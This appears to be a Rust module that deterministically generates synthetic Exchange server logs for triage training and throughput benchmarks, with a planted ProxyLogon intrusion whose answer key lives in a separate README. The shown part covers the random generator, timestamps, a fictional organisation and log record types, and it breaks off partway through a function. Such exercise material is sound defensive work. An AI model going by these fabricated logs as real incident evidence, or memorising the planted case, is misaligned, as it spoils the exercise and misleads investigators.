//! Deterministic generator of realistic Exchange 2016/2019 log collections.
//!
//! * [`write_sample_case`] writes a small four-server triage collection (IIS front and back end,
//!   HttpProxy, ECP Server, OAB generator, HTTPERR and an MSExchange Management event export) with a
//!   planted ProxyLogon intrusion and benign look-alikes. `sample-logs/README.md` is its answer key.
//! * [`write_bench_corpus`] streams a large IIS-only corpus for throughput benchmarks.
//!
//! Formats follow `shared/reference/exchange-logs.md` (§3 IIS, §4 HttpProxy, §5 ECP, §6 OAB,
//! §7.4 event export). Randomness comes from a hand-written SplitMix64 and only integer or
//! exactly rounded float arithmetic is used, so the same options give the same bytes on every
//! platform, with no dependency able to change them.

use std::fmt::Write as _;
use std::fs::{self, File};
use std::io::{self, Write as _};
use std::path::{Path, PathBuf};

/// Options for [`write_sample_case`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SampleOptions {
    /// Seed of the benign background traffic. The intrusion and the decoys are scripted from a
    /// fixed seed (they are the answer key), so they are the same for every value.
    pub seed: u64,
}

impl Default for SampleOptions {
    fn default() -> Self {
        Self { seed: 2021 }
    }
}

/// Options for [`write_bench_corpus`]: an IIS-only volume corpus.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct BenchOptions {
    /// Data lines to write in total, headers not counted.
    pub lines: u64,
    /// Seed of the client population and of every line.
    pub seed: u64,
    /// Number of daily files, starting on Monday 2024-03-04.
    pub days: u32,
}

/// What a generator wrote.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct GenSummary {
    /// One entry per file in writing order: its path, its physical lines (directives and
    /// header lines included; an unterminated last line counts) and its size in bytes.
    pub files: Vec<(PathBuf, u64, u64)>,
}

/// Writes the sample collection (MBX-A and MBX-B at the head office, MBX-C and MBX-D at a branch
/// behind a source-NATting balancer; 2021-03-03 to 2021-03-06) under
/// `out`, creating directories as needed. The same options always give the same bytes.
pub fn write_sample_case(out: &Path, opts: &SampleOptions) -> io::Result<GenSummary> {
    let case = build_case(opts.seed);
    let mut output = Output::new(out);
    for host in Host::COLLECTION {
        write_server(&mut output, &case, host)?;
    }
    Ok(output.summary)
}

/// Streams `opts.lines` IIS W3C data lines (Exchange default fields) over `opts.days` daily files
/// `u_exYYMMDD.log` under `<out>/BENCH-1/inetpub/logs/LogFiles/W3SVC1/`, in constant memory.
/// Weekend days get 0.3 times the lines of a weekday.
pub fn write_bench_corpus(out: &Path, opts: &BenchOptions) -> io::Result<GenSummary> {
    bench::write(out, opts)
}

// ---------------------------------------------------------------------------------------------
// Random numbers
// ---------------------------------------------------------------------------------------------

/// SplitMix64: tiny, fast and fully specified, so the output can never change with a dependency.
#[derive(Debug, Clone)]
struct Rng {
    state: u64,
}

impl Rng {
    fn new(seed: u64) -> Self {
        Self { state: seed }
    }

    fn next_u64(&mut self) -> u64 {
        self.state = self.state.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.state;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Uniform in `0..n` by multiply-shift (Lemire); the bias is far below anything visible.
    fn below(&mut self, n: u64) -> u64 {
        ((u128::from(self.next_u64()) * u128::from(n)) >> 64) as u64
    }

    /// Uniform in `lo..=hi`.
    fn range(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.below(hi - lo + 1)
    }

    fn range_u32(&mut self, lo: u32, hi: u32) -> u32 {
        self.range(u64::from(lo), u64::from(hi)) as u32
    }

    fn millis(&mut self, lo: Millis, hi: Millis) -> Millis {
        lo + self.below((hi - lo + 1) as u64) as Millis
    }

    /// True with probability `per_mille / 1000`.
    fn chance(&mut self, per_mille: u64) -> bool {
        self.below(1000) < per_mille
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }

    /// Index drawn with the given integer weights.
    fn weighted(&mut self, weights: &[u32]) -> usize {
        let total: u64 = weights.iter().map(|w| u64::from(*w)).sum();
        let mut ticket = self.below(total);
        for (i, w) in weights.iter().enumerate() {
            let w = u64::from(*w);
            if ticket < w {
                return i;
            }
            ticket -= w;
        }
        weights.len().saturating_sub(1)
    }

    /// `base` scaled by `percent`, rounding the fraction up at random so small counts survive.
    fn scaled(&mut self, base: u64, percent: u64) -> u64 {
        let hundredths = base * percent;
        hundredths / 100 + u64::from(self.below(100) < hundredths % 100)
    }

    /// A version 4 GUID in the lower-case form Exchange logs use.
    fn guid(&mut self) -> String {
        let hi = (self.next_u64() & 0xFFFF_FFFF_FFFF_0FFF) | 0x4000;
        let lo = (self.next_u64() & 0x3FFF_FFFF_FFFF_FFFF) | 0x8000_0000_0000_0000;
        format!(
            "{:08x}-{:04x}-{:04x}-{:04x}-{:012x}",
            hi >> 32,
            (hi >> 16) & 0xFFFF,
            hi & 0xFFFF,
            lo >> 48,
            lo & 0xFFFF_FFFF_FFFF
        )
    }

    fn hex(&mut self, digits: usize, upper: bool) -> String {
        let table: &[u8; 16] = if upper {
            b"0123456789ABCDEF"
        } else {
            b"0123456789abcdef"
        };
        (0..digits)
            .map(|_| char::from(table[self.below(16) as usize]))
            .collect()
    }
}

// ---------------------------------------------------------------------------------------------
// Time: milliseconds since the Unix epoch, UTC, with Hinnant's civil-date algorithms
// ---------------------------------------------------------------------------------------------

type Millis = i64;

const SECOND: Millis = 1000;
const MINUTE: Millis = 60 * SECOND;
/// The legitimate monitoring job polls every 15 minutes: often enough to be a regular caller,
/// rare enough to keep the sample a few megabytes.
const MONITOR_INTERVAL: Millis = 15 * MINUTE;
const HOUR: Millis = 60 * MINUTE;
const DAY: Millis = 24 * HOUR;

/// Days since 1970-01-01 of a proleptic Gregorian date.
const fn days_from_civil(year: i64, month: u32, day: u32) -> i64 {
    let y = if month <= 2 { year - 1 } else { year };
    let era = (if y >= 0 { y } else { y - 399 }) / 400;
    let yoe = y - era * 400;
    let m = month as i64;
    let doy = (153 * (if m > 2 { m - 3 } else { m + 9 }) + 2) / 5 + day as i64 - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    era * 146_097 + doe - 719_468
}

fn civil_from_days(days: i64) -> (i64, u32, u32) {
    let z = days + 719_468;
    let era = (if z >= 0 { z } else { z - 146_096 }) / 146_097;
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = (doy - (153 * mp + 2) / 5 + 1) as u32;
    let month = (if mp < 10 { mp + 3 } else { mp - 9 }) as u32;
    let year = yoe + era * 400 + i64::from(month <= 2);
    (year, month, day)
}

/// Monday = 0 … Sunday = 6. 1970-01-01 was a Thursday.
fn weekday(day_start: Millis) -> u32 {
    (day_start.div_euclid(DAY) + 3).rem_euclid(7) as u32
}

/// A broken-down UTC time, formatted the ways the different logs want it.
struct Stamp {
    year: i64,
    month: u32,
    day: u32,
    hour: i64,
    minute: i64,
    second: i64,
    milli: i64,
}

impl Stamp {
    fn of(ms: Millis) -> Self {
        let (year, month, day) = civil_from_days(ms.div_euclid(DAY));
        let rem = ms.rem_euclid(DAY);
        Self {
            year,
            month,
            day,
            hour: rem / HOUR,
            minute: rem / MINUTE % 60,
            second: rem / SECOND % 60,
            milli: rem % SECOND,
        }
    }

    fn date(&self) -> String {
        format!("{:04}-{:02}-{:02}", self.year, self.month, self.day)
    }

    /// IIS and HTTPERR: `2021-03-05 17:42:19`.
    fn w3c(&self) -> String {
        format!(
            "{} {:02}:{:02}:{:02}",
            self.date(),
            self.hour,
            self.minute,
            self.second
        )
    }

    /// Exchange CSV logs: `2021-03-05T17:42:19.506Z`.
    fn iso_millis(&self) -> String {
        format!(
            "{}T{:02}:{:02}:{:02}.{:03}Z",
            self.date(),
            self.hour,
            self.minute,
            self.second,
            self.milli
        )
    }

    /// Get-WinEvent export (7 fractional digits): `2021-03-05T17:42:27.0930000Z`.
    fn event(&self) -> String {
        format!(
            "{}T{:02}:{:02}:{:02}.{:03}0000Z",
            self.date(),
            self.hour,
            self.minute,
            self.second,
            self.milli
        )
    }

    /// `210305`, as in `u_ex210305.log`.
    fn yymmdd(&self) -> String {
        format!("{:02}{:02}{:02}", self.year % 100, self.month, self.day)
    }

    /// `20210305`, as in `ECPServer20210305-1.LOG`.
    fn yyyymmdd(&self) -> String {
        format!("{:04}{:02}{:02}", self.year, self.month, self.day)
    }
}

// ---------------------------------------------------------------------------------------------
// The sample organisation
// ---------------------------------------------------------------------------------------------

const DOMAIN: &str = "corp.example.org";
const MAIL_HOST: &str = "mail.example.org";
/// The organisation's published address; scanners put it in the Host header.
const PUBLIC_IP: &str = "203.0.113.250";
/// Exchange 2019 CU8, the vulnerable build of March 2021.
const BUILD_DIRECTIVE: &str = "15.02.0792.003";
const BUILD_DOTTED: &str = "15.2.792.3";
const BACKEND_VERSION: &str = "15.02.0792.000";
/// `FEAuth=BEVersion-…` of 15.2.792 (§4.6).
const BE_VERSION: u32 = 1_942_127_384;
const SID_PREFIX: &str = "S-1-5-21-1004336348-1177238915-682003330";

/// First day of the case and how many days it covers (2021-03-03 … 2021-03-06).
const CASE_FIRST_DAY: i64 = days_from_civil(2021, 3, 3);
const CASE_DAYS: i64 = 4;

/// A moment of March 2021.
const fn march(day: u32, hour: i64, minute: i64, second: i64, milli: i64) -> Millis {
    days_from_civil(2021, 3, day) * DAY + hour * HOUR + minute * MINUTE + second * SECOND + milli
}

/// IIS on MBX-A restarts after the security update; the header block is written again.
const PATCH_RESTART: Millis = march(6, 3, 12, 0, 0);
/// IIS is stopped for this long before the restart and logs nothing.
const PATCH_DOWNTIME: Millis = MINUTE;

fn case_day_start(index: i64) -> Millis {
    (CASE_FIRST_DAY + index) * DAY
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Host {
    A,
    B,
    /// The branch office's front end, published behind a source-NATting balancer pair.
    C,
    /// The branch office's mailbox server, not published.
    D,
}

impl Host {
    /// The head office's servers, which the background traffic and the intrusion use.
    const ALL: [Host; 2] = [Host::A, Host::B];
    /// Every server of the collection, in writing order.
    const COLLECTION: [Host; 4] = [Host::A, Host::B, Host::C, Host::D];

    fn index(self) -> usize {
        match self {
            Host::A => 0,
            Host::B => 1,
            Host::C => 2,
            Host::D => 3,
        }
    }

    fn name(self) -> &'static str {
        match self {
            Host::A => "MBX-A",
            Host::B => "MBX-B",
            Host::C => "MBX-C",
            Host::D => "MBX-D",
        }
    }

    fn fqdn(self) -> &'static str {
        match self {
            Host::A => "MBX-A.corp.example.org",
            Host::B => "MBX-B.corp.example.org",
            Host::C => "MBX-C.corp.example.org",
            Host::D => "MBX-D.corp.example.org",
        }
    }

    fn ip(self) -> &'static str {
        match self {
            Host::A => "172.16.4.21",
            Host::B => "172.16.4.22",
            Host::C => "10.20.4.31",
            Host::D => "10.20.4.32",
        }
    }

    fn machine_account(self) -> &'static str {
        match self {
            Host::A => "EXAMPLE\\MBX-A$",
            Host::B => "EXAMPLE\\MBX-B$",
            Host::C => "EXAMPLE\\MBX-C$",
            Host::D => "EXAMPLE\\MBX-D$",
        }
    }

    /// The mailbox database hosted on this server.
    fn database(self) -> &'static str {
        match self {
            Host::A => "6a1f4e0b-93c2-4d7e-b5a8-0c2f9e7d4b11",
            Host::B => "d3e48c9e-c2f6-47a6-9337-2368848ffbeb",
            Host::C | Host::D => "41c7e2b9-6d08-4f3a-9e15-b8a0c4d7e362",
        }
    }

    fn other(self) -> Host {
        match self {
            Host::A => Host::B,
            Host::B => Host::A,
            Host::C => Host::D,
            Host::D => Host::C,
        }
    }

    /// Whether its front end logs X-Forwarded-For from the start (the branch's balancer
    /// source-NATs, so the field was configured with it).
    fn logs_forwarded_for(self) -> bool {
        self == Host::C
    }

    /// False while IIS is stopped for the patch.
    fn is_online(self, at: Millis) -> bool {
        !(self == Host::A && (PATCH_RESTART - PATCH_DOWNTIME..PATCH_RESTART).contains(&at))
    }
}

/// HttpProxy protocol folders, in the order files are written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Protocol {
    Autodiscover,
    Eas,
    Ecp,
    Ews,
    Mapi,
    Oab,
    Owa,
    PowerShell,
    RpcHttp,
}

impl Protocol {
    const ALL: [Protocol; 9] = [
        Protocol::Autodiscover,
        Protocol::Eas,
        Protocol::Ecp,
        Protocol::Ews,
        Protocol::Mapi,
        Protocol::Oab,
        Protocol::Owa,
        Protocol::PowerShell,
        Protocol::RpcHttp,
    ];

    fn name(self) -> &'static str {
        match self {
            Protocol::Autodiscover => "Autodiscover",
            Protocol::Eas => "Eas",
            Protocol::Ecp => "Ecp",
            Protocol::Ews => "Ews",
            Protocol::Mapi => "Mapi",
            Protocol::Oab => "Oab",
            Protocol::Owa => "Owa",
            Protocol::PowerShell => "PowerShell",
            Protocol::RpcHttp => "RpcHttp",
        }
    }
}

/// `sc-status sc-substatus sc-win32-status`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Status {
    code: u16,
    sub: u16,
    win32: u32,
}

const OK: Status = Status {
    code: 200,
    sub: 0,
    win32: 0,
};
const FOUND: Status = Status {
    code: 302,
    sub: 0,
    win32: 0,
};
const NOT_MODIFIED: Status = Status {
    code: 304,
    sub: 0,
    win32: 0,
};
const NOT_FOUND: Status = Status {
    code: 404,
    sub: 0,
    win32: 2,
};
const CHALLENGE: Status = Status {
    code: 401,
    sub: 2,
    win32: 5,
};
const SERVER_ERROR: Status = Status {
    code: 500,
    sub: 0,
    win32: 0,
};
const UNAVAILABLE: Status = Status {
    code: 503,
    sub: 0,
    win32: 0,
};
const PROXYLOGON: Status = Status {
    code: 241,
    sub: 0,
    win32: 0,
};

// User agents, with real spaces; IIS writes them with `+`.
const OUTLOOK_UA: &str =
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13127; Pro)";
const OUTLOOK_2013_UA: &str =
    "Microsoft Office/15.0 (Windows NT 6.1; Microsoft Outlook 15.0.5311; Pro)";
const RPC_UA: &str = "MSRPC";
const BROWSER_UAS: [&str; 4] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36 Edg/88.0.705.81",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:86.0) Gecko/20100101 Firefox/86.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/14.0.3 Safari/605.1.15",
];
/// (DeviceType, User-Agent) of the ActiveSync clients.
const MOBILE_DEVICES: [(&str, &str); 5] = [
    ("iPhone", "Apple-iPhone13C2/1805.71"),
    ("iPhone", "Apple-iPhone12C1/1804.231"),
    ("SAMSUNGSMG991B", "SAMSUNG-SM-G991B/101.100001"),
    ("Android", "Android-Mail/2021.01.31.357335574.release"),
    ("Outlook", "Outlook-iOS-Android/1.0"),
];
const PYTHON_REQUESTS_UA: &str = "python-requests/2.25.1";
const EWS_CLIENT_UA: &str = "ExchangeServicesClient/0.0.0.0";
const ATTACKER_BROWSER_UA: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:78.0) Gecko/20100101 Firefox/78.0";
const SCANNER_UA: &str = "Mozilla/5.0 (compatible; ExampleScanner/1.0)";
/// A scanner user agent carrying a raw ANSI colour sequence (byte 0x1B).
const SCANNER_ESCAPE_UA: &str = "Mozilla/5.0 \u{1b}[31mred\u{1b}[0m";
const TEAMS_UA: &str =
    "MicrosoftNinja/1.0 Teams/1.0 (ExchangeServicesClient/0.0.0.0) SkypeSpaces/1.0a$*+";
const OUTLOOK_MOBILE_UA: &str = "Outlook-iOS/723.4027091.prod.iphone (4.2109.0)";
const WINRM_UA: &str = "Microsoft WinRM Client";
const AM_PROBE_UA: &str = "AMProbe/Local/ClientAccess";
const OWA_CTP_UA: &str =
    "Mozilla/4.0 (compatible; MSIE 9.0; Windows NT 6.1; MSEXCHMON; ACTIVEMONITORING; OWACTP)";
const ECP_CTP_UA: &str =
    "Mozilla/4.0 (compatible; MSIE 9.0; Windows NT 6.1; MSEXCHMON; ACTIVEMONITORING; ECPCTP)";
const MAPI_PROBE_UA: &str = "MapiHttpClient";

const EMPLOYEES: [&str; 40] = [
    "j.smith",
    "t.nguyen",
    "a.kowalski",
    "m.garcia",
    "l.meyer",
    "s.okafor",
    "k.tanaka",
    "r.hartmann",
    "e.rossi",
    "d.murphy",
    "p.novak",
    "h.berg",
    "c.dubois",
    "n.patel",
    "f.silva",
    "g.jensen",
    "b.walsh",
    "i.petrov",
    "o.lindqvist",
    "y.cohen",
    "v.horvat",
    "w.zhang",
    "z.ali",
    "u.schmidt",
    "a.larsen",
    "m.moreau",
    "s.fischer",
    "j.kim",
    "l.costa",
    "t.wagner",
    "e.andersen",
    "r.singh",
    "c.martin",
    "k.nowak",
    "d.evans",
    "h.yamamoto",
    "p.mueller",
    "n.ivanova",
    "g.bianchi",
    "m.brennan",
];

/// Relative request volume per UTC hour (the office works 08:00–17:00 CET).
const HOUR_WEIGHTS: [u32; 24] = [
    1, 1, 1, 1, 1, 2, 6, 14, 20, 22, 20, 17, 14, 18, 21, 20, 16, 10, 5, 3, 2, 2, 1, 1,
];

/// Share of a weekday's user traffic on a given day (the case ends on a Saturday).
fn day_percent(day_start: Millis) -> u64 {
    if weekday(day_start) >= 5 { 25 } else { 100 }
}

/// A moment of the day drawn from the office-hours curve.
fn office_moment(rng: &mut Rng, day_start: Millis) -> Millis {
    let hour = rng.weighted(&HOUR_WEIGHTS) as Millis;
    day_start + hour * HOUR + rng.below(HOUR as u64) as Millis
}

/// The front end a load balancer without affinity picks; MBX-A is skipped while it is down.
fn balanced_front(rng: &mut Rng, at: Millis) -> Host {
    let host = if rng.chance(500) { Host::A } else { Host::B };
    if host.is_online(at) {
        host
    } else {
        host.other()
    }
}

fn is_internal(ip: &str) -> bool {
    ip.starts_with("172.16.") || ip == "127.0.0.1" || ip == "::1"
}

struct Employee {
    sam: String,
    rid: u32,
    desktop_ip: String,
    mailbox_guid: String,
    home: Host,
    /// ActiveSync device: (client address, DeviceId, DeviceType, User-Agent).
    mobile: Option<(String, String, &'static str, &'static str)>,
    /// OWA from home over IPv6, when the user reads mail in a browser.
    home_ip: Option<String>,
    browser: &'static str,
    legacy_outlook: bool,
    activity_percent: u64,
}

impl Employee {
    fn account(&self) -> String {
        format!("EXAMPLE\\{}", self.sam)
    }

    fn smtp(&self) -> String {
        format!("{}@{DOMAIN}", self.sam)
    }
}

fn employees(rng: &mut Rng) -> Vec<Employee> {
    EMPLOYEES
        .iter()
        .enumerate()
        .map(|(i, sam)| {
            let slot = i as u64 / 2;
            let subnet = if i % 2 == 0 { 30 } else { 31 };
            // Slots seven apart with a jitter below seven keep every address unique.
            let desktop_ip = format!("172.16.{subnet}.{}", 20 + slot * 7 + rng.below(5));
            let mobile = (i % 3 == 0).then(|| {
                // 203.0.113.0/25, spaced so no two users share an address and .77 stays free.
                let mut octet = 5 + (i as u64 / 3) * 8 + rng.below(6);
                if octet == 77 {
                    octet = 76;
                }
                let (device_type, agent) = MOBILE_DEVICES[i % MOBILE_DEVICES.len()];
                (
                    format!("203.0.113.{octet}"),
                    rng.hex(32, true),
                    device_type,
                    agent,
                )
            });
            let home_ip =
                (i % 4 == 1).then(|| format!("2001:db8:4d2:{:x}::{:x}", 16 + i, rng.range(2, 250)));
            Employee {
                sam: (*sam).to_string(),
                rid: 3100 + i as u32 * 3,
                desktop_ip,
                mailbox_guid: rng.guid(),
                home: if i % 2 == 0 { Host::A } else { Host::B },
                mobile,
                home_ip,
                browser: BROWSER_UAS[i % BROWSER_UAS.len()],
                legacy_outlook: matches!(i, 7 | 19 | 33),
                activity_percent: rng.range(50, 150),
            }
        })
        .collect()
}

// ---------------------------------------------------------------------------------------------
// Log records
// ---------------------------------------------------------------------------------------------

/// One IIS W3C line with the 15 Exchange default fields (plus `X-Forwarded-For` when the file
/// has that custom field).
#[derive(Debug, Clone)]
struct IisRecord {
    end: Millis,
    server_ip: &'static str,
    method: &'static str,
    stem: String,
    /// Complete `cs-uri-query`; empty is written `-`.
    query: String,
    port: u16,
    user: String,
    client_ip: String,
    /// With real spaces; written with `+`.
    user_agent: String,
    referer: String,
    status: Status,
    time_taken: u32,
    forwarded_for: String,
}

/// One HttpProxy row (74 columns, §4.4).
#[derive(Debug, Clone)]
struct ProxyRow {
    end: Millis,
    request_id: String,
    client_request_id: String,
    protocol: Protocol,
    url_host: String,
    url_stem: String,
    /// With its leading `?`, or empty.
    url_query: String,
    protocol_action: String,
    auth_kind: &'static str,
    authenticated_user: String,
    anchor: String,
    user_agent: String,
    client_ip: String,
    server: Host,
    status: u16,
    method: &'static str,
    time_taken: u32,
    handling: Handling,
}

#[derive(Debug, Clone)]
enum Handling {
    /// Answered by the front end itself; `note` goes into GenericInfo before `EndRequest`.
    Local {
        note: &'static str,
    },
    Proxied(ProxyLeg),
}

#[derive(Debug, Clone)]
struct ProxyLeg {
    backend_status: u16,
    target_server: String,
    target_version: &'static str,
    routing_hint: &'static str,
    request_bytes: u32,
    response_bytes: u32,
    backend_ms: u32,
    /// Milliseconds from `BeginRequest` to `BeginGetRequestStream`.
    stream_ms: u32,
    database: String,
}

/// One ECP Server log line (§5).
#[derive(Debug, Clone)]
struct EcpRecord {
    at: Millis,
    server: Host,
    event_data: String,
}

/// One OAB generator log line (§6; the column layout is this generator's assumption).
#[derive(Debug, Clone)]
struct OabRecord {
    at: Millis,
    server: Host,
    level: &'static str,
    message: String,
}

/// One HTTP.sys HTTPERR line: everything after `date time`, already joined.
#[derive(Debug, Clone)]
struct HttpErrRecord {
    at: Millis,
    rest: String,
}

/// One MSExchange Management event as exported by `Get-WinEvent | Export-Csv`.
#[derive(Debug, Clone)]
struct ManagementEvent {
    at: Millis,
    id: u32,
    level: &'static str,
    server: Host,
    message: String,
}

#[derive(Debug, Default)]
struct ServerLogs {
    front_end: Vec<IisRecord>,
    back_end: Vec<IisRecord>,
    proxy: Vec<ProxyRow>,
    ecp: Vec<EcpRecord>,
    oab: Vec<OabRecord>,
    httperr: Vec<HttpErrRecord>,
    events: Vec<ManagementEvent>,
}

/// Everything generated for the collection, before it is sorted and written.
#[derive(Debug, Default)]
struct Case {
    servers: [ServerLogs; 4],
    /// The W3SVC1 line of MBX-A that the power loss cut off, written last and unterminated.
    torn_line: Option<IisRecord>,
}

impl Case {
    fn logs(&mut self, host: Host) -> &mut ServerLogs {
        &mut self.servers[host.index()]
    }
}

// ---------------------------------------------------------------------------------------------
// Requests: one client call becomes a W3SVC1 line, an HttpProxy row and a W3SVC2 line
// ---------------------------------------------------------------------------------------------

/// Where the front end sends a request.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Target {
    /// The back end (port 444) of this server, which writes a W3SVC2 line.
    Server(Host),
    /// `localhost`: the front end's own back end, reached from `::1`.
    Localhost,
    /// `localhost` on port 443 (the nmap check's cookie): the request loops into the front-end
    /// site again, which this generator does not model, so no back-end line is written.
    LoopbackFrontEnd,
}

/// Who sends requests and how Exchange authenticates and routes them.
#[derive(Debug, Clone)]
struct Caller {
    ip: String,
    user_agent: String,
    referer: String,
    /// `cs-username` on the front end; empty when anonymous.
    iis_user: String,
    auth_kind: &'static str,
    /// HttpProxy `AuthenticatedUser`; empty means `IsAuthenticated` false.
    authenticated_user: String,
    /// `cs-username` on the back end.
    backend_user: String,
    url_host: String,
    anchor: String,
    routing_hint: &'static str,
    target: Target,
    target_version: &'static str,
    database: String,
}

impl Caller {
    /// An anonymous client of the front end, routed nowhere yet.
    fn anonymous(ip: &str, user_agent: &str) -> Self {
        Self {
            ip: ip.to_string(),
            user_agent: user_agent.to_string(),
            referer: String::new(),
            iis_user: String::new(),
            auth_kind: "",
            authenticated_user: String::new(),
            backend_user: String::new(),
            url_host: MAIL_HOST.to_string(),
            anchor: String::new(),
            routing_hint: "",
            target: Target::LoopbackFrontEnd,
            target_version: BACKEND_VERSION,
            database: String::new(),
        }
    }

    /// An authenticated account whose mailbox is on `home`.
    fn account(
        ip: &str,
        user_agent: &str,
        account: &str,
        auth_kind: &'static str,
        home: Host,
    ) -> Self {
        Self {
            iis_user: account.to_string(),
            auth_kind,
            authenticated_user: account.to_string(),
            backend_user: account.to_string(),
            routing_hint: "WindowsIdentity",
            target: Target::Server(home),
            database: home.database().to_string(),
            ..Self::anonymous(ip, user_agent)
        }
    }

    fn employee(user: &Employee, ip: &str, user_agent: &str) -> Self {
        Self {
            anchor: format!("Sid~{SID_PREFIX}-{}", user.rid),
            ..Self::account(ip, user_agent, &user.account(), "Negotiate", user.home)
        }
    }
}

/// One call: what the client asked and how it went.
#[derive(Debug, Clone)]
struct Call {
    end: Millis,
    front: Host,
    method: &'static str,
    stem: String,
    /// The client's query without `?`; Exchange appends its own part.
    query: String,
    protocol: Protocol,
    action: &'static str,
    client_request_id: String,
    status: Status,
    time_taken: u32,
    request_bytes: u32,
    response_bytes: u32,
    /// SSRF: the stem and query the back end really served, from the cookie's target path.
    backend_path: Option<(String, String)>,
}

impl Call {
    fn new(end: Millis, front: Host, method: &'static str, stem: &str, protocol: Protocol) -> Self {
        Self {
            end,
            front,
            method,
            stem: stem.to_string(),
            query: String::new(),
            protocol,
            action: "",
            client_request_id: String::new(),
            status: OK,
            time_taken: 0,
            request_bytes: 0,
            response_bytes: 0,
            backend_path: None,
        }
    }

    fn query(mut self, query: impl Into<String>) -> Self {
        self.query = query.into();
        self
    }

    fn status(mut self, status: Status) -> Self {
        self.status = status;
        self
    }

    fn took(mut self, millis: u32) -> Self {
        self.time_taken = millis;
        self
    }

    fn bytes(mut self, request: u32, response: u32) -> Self {
        self.request_bytes = request;
        self.response_bytes = response;
        self
    }

    fn action(mut self, action: &'static str) -> Self {
        self.action = action;
        self
    }
}

/// Exchange's addition to `cs-uri-query` (§3.4), which carries the HttpProxy `RequestId`.
fn exchange_query(query: &str, request_id: &str, protocol: Protocol) -> String {
    let encoding = if protocol == Protocol::Owa {
        "&encoding=;"
    } else {
        ""
    };
    format!("{query}&CorrelationID=<empty>;&cafeReqId={request_id};{encoding}")
}

fn url_query(query: &str) -> String {
    if query.is_empty() {
        String::new()
    } else {
        format!("?{query}")
    }
}

fn iis_record(call: &Call, caller: &Caller, query: String) -> IisRecord {
    IisRecord {
        end: call.end,
        server_ip: call.front.ip(),
        method: call.method,
        stem: call.stem.clone(),
        query,
        port: 443,
        user: caller.iis_user.clone(),
        client_ip: caller.ip.clone(),
        user_agent: caller.user_agent.clone(),
        referer: caller.referer.clone(),
        status: call.status,
        time_taken: call.time_taken,
        forwarded_for: if is_internal(&caller.ip) {
            String::new()
        } else {
            caller.ip.clone()
        },
    }
}

fn proxy_row(call: &Call, caller: &Caller, request_id: String, handling: Handling) -> ProxyRow {
    ProxyRow {
        end: call.end,
        request_id,
        client_request_id: call.client_request_id.clone(),
        protocol: call.protocol,
        url_host: caller.url_host.clone(),
        url_stem: call.stem.clone(),
        url_query: url_query(&call.query),
        protocol_action: call.action.to_string(),
        auth_kind: caller.auth_kind,
        authenticated_user: caller.authenticated_user.clone(),
        anchor: caller.anchor.clone(),
        user_agent: caller.user_agent.clone(),
        client_ip: caller.ip.clone(),
        server: call.front,
        status: call.status.code,
        method: call.method,
        time_taken: call.time_taken,
        handling,
    }
}

/// A request IIS serves without Exchange (static files, `/aspnet_client/`, health checks, 404s):
/// no cafeReqId, no HttpProxy row.
/// The call's protocol is not used.
fn record_iis_only(case: &mut Case, caller: &Caller, call: &Call) {
    let record = iis_record(call, caller, call.query.clone());
    case.logs(call.front).front_end.push(record);
}

/// A request the front end answers itself (401 challenges, FBA pages, files under `/owa/auth/`).
fn record_local(case: &mut Case, rng: &mut Rng, caller: &Caller, call: &Call, note: &'static str) {
    let request_id = rng.guid();
    let query = exchange_query(&call.query, &request_id, call.protocol);
    let logs = case.logs(call.front);
    logs.front_end.push(iis_record(call, caller, query));
    let mut row = proxy_row(call, caller, request_id, Handling::Local { note });
    // Nothing was routed, so there is no anchor (§4.8, third example).
    row.anchor.clear();
    logs.proxy.push(row);
}

/// A request proxied to a back end: W3SVC1 line, HttpProxy row and, when the target logs it, a
/// W3SVC2 line with the same cafeReqId.
fn record_proxied(case: &mut Case, rng: &mut Rng, caller: &Caller, call: &Call) {
    let mut call = call.clone();
    let backend_host = match caller.target {
        Target::Server(host) => Some((host, call.front.ip())),
        Target::Localhost => Some((call.front, "::1")),
        Target::LoopbackFrontEnd => None,
    };
    // A back end that is down (the patch restart) makes the front end answer 503 alone.
    let backend_down = backend_host.is_some_and(|(host, _)| !host.is_online(call.end));
    if backend_down {
        call.status = UNAVAILABLE;
    }
    let request_id = rng.guid();
    let query = exchange_query(&call.query, &request_id, call.protocol);
    let overhead = rng.range_u32(4, 12).min(call.time_taken / 2);
    let backend_ms = call.time_taken - overhead;
    let target_server = match caller.target {
        Target::Server(host) => host.fqdn().to_string(),
        Target::Localhost | Target::LoopbackFrontEnd => "localhost".to_string(),
    };
    let leg = ProxyLeg {
        backend_status: call.status.code,
        target_server,
        target_version: caller.target_version,
        routing_hint: caller.routing_hint,
        request_bytes: call.request_bytes,
        response_bytes: call.response_bytes,
        backend_ms,
        stream_ms: rng.range_u32(1, 3),
        database: caller.database.clone(),
    };
    let front_record = iis_record(&call, caller, query.clone());
    let row = proxy_row(&call, caller, request_id.clone(), Handling::Proxied(leg));
    let logs = case.logs(call.front);
    logs.front_end.push(front_record);
